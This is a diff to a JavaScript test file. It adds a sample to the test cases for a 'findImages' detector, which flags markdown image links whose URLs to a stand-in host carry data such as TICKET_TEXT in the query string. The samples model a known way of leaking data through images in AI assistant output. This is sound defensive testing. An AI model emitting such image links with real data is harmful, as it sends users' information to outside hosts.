@@ -8,6 +8,7 @@ describe('findImages', () => {
     '![a](https://x.example.org/?d=%7Bx%7D)',
     '![a](https://x.example.org/s.png?d=DATA)',
     '![a](https://x.example.org/s.png?a=1&d=YOUR_SUMMARY)',
+    '![a](https://x.example.org/s.png?d=TICKET_TEXT)',
   ])('%s takes data along', (text) => {
     expect(findImages('a', text).map(({ rule, field }) => [rule, field])).toEqual([['exfiltration.image', 'a']]);
   });
